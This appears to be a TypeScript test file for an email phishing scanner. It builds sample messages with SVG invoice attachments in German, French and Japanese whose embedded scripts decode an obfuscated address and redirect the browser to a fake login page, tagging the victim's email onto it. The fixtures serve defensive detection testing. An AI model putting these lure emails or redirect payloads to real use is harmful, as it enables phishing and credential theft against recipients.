import { test } from 'node:test';
import assert from 'node:assert/strict';
import { defaultConfig } from '../../config/load.js';
import { createScanner } from '../../runtime/index.js';
import { activeIds } from '../../test-support/corpus-rows.js';

/**
 * Session 44: an SVG attachment whose script sends the browser to an address it builds (`window.location.href = atob("…") +
 * email`) is a redirect in any language — the letter around it may say only "the invoice is attached" in German or French,
 * which no lure vocabulary reads. Expected and forbidden ids end to end, with the verdict.
 */
const scanner = await createScanner({ config: defaultConfig(), services: { now: () => new Date('2026-11-02T10:00:00Z') } });
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');

function withSvg(subject: string, body: string, svg: string): Uint8Array {
  return new TextEncoder().encode(
    ['From: Buchhaltung <rechnung@lieferant-xy.example.com>', 'To: opfer@firma.example.de', `Subject: ${subject}`, 'Date: Mon, 2 Nov 2026 10:11:12 +0000',
      `Message-ID: <${subject.length}.${svg.length}@lieferant-xy.example.com>`, 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="b"', '',
      '--b', 'Content-Type: text/plain; charset=utf-8', '', body, '--b', 'Content-Type: image/svg+xml; name="Rechnung_4471.svg"',
      'Content-Disposition: attachment; filename="Rechnung_4471.svg"', 'Content-Transfer-Encoding: base64', '', b64(svg), '--b--', ''].join('\r\n'),
  );
}
const svg = (script: string): string => `<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"><script><![CDATA[ ${script} ]]></script></svg>`;
const COMPUTED = svg(`var u = atob("${b64('https://login-rechnung.example.net/p')}"); window.location.href = u + "#" + "opfer@firma.example.de";`);

test('an SVG whose script navigates to a decoded or computed address is a redirect, whatever the letter\'s language (table)', async () => {
  const rows: { name: string; raw: Uint8Array; expected: string[]; forbidden: string[]; verdict?: string }[] = [
    { name: 'de: the invoice attached, atob + location.href', expected: ['ATTACH_HTML_REDIRECT', 'ATTACH_SVG_SCRIPT'], forbidden: [], verdict: 'phishing',
      raw: withSvg('Rechnung 2026-4471 offen', 'Guten Tag,\n\nanbei die offene Rechnung. Bitte öffnen Sie den Anhang.\n\nMit freundlichen Grüßen', COMPUTED) },
    { name: 'fr: la facture ci-jointe', expected: ['ATTACH_HTML_REDIRECT', 'ATTACH_SVG_SCRIPT'], forbidden: [], verdict: 'phishing',
      raw: withSvg('Facture 2026-4471', 'Bonjour,\n\nVeuillez trouver ci-joint la facture impayée.\n\nCordialement', COMPUTED) },
    { name: 'ja: 請求書を添付', expected: ['ATTACH_HTML_REDIRECT'], forbidden: [], verdict: 'phishing',
      raw: withSvg('請求書のご案内', 'お世話になっております。請求書を添付いたしましたのでご確認ください。', svg('var a = ["ht", "tps://", "x.example"]; top.location = a.join("");')) },
    // Not: an SVG logo with no script; an SVG whose script only breaks out of a frame.
    { name: 'a logo', expected: [], forbidden: ['ATTACH_HTML_REDIRECT', 'ATTACH_SVG_SCRIPT'],
      raw: withSvg('Logo', 'Hier unser neues Logo.', '<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>') },
    { name: 'a frame buster', expected: ['ATTACH_SVG_SCRIPT'], forbidden: ['ATTACH_HTML_REDIRECT'],
      raw: withSvg('Grafik', 'Die Grafik im Anhang.', svg('if (top !== self) top.location = self.location;')) },
  ];
  for (const row of rows) {
    const result = await scanner.scan({ raw: row.raw, source: `${row.name}.eml` });
    const ids = activeIds(result);
    for (const id of row.expected) assert.ok(ids.includes(id), `${row.name}: ${id} expected in ${ids.join(', ')}`);
    for (const id of row.forbidden) assert.ok(!ids.includes(id), `${row.name}: ${id} not expected`);
    if (row.verdict) assert.equal(result.verdict, row.verdict, `${row.name}: ${ids.join(', ')}`);
  }
});
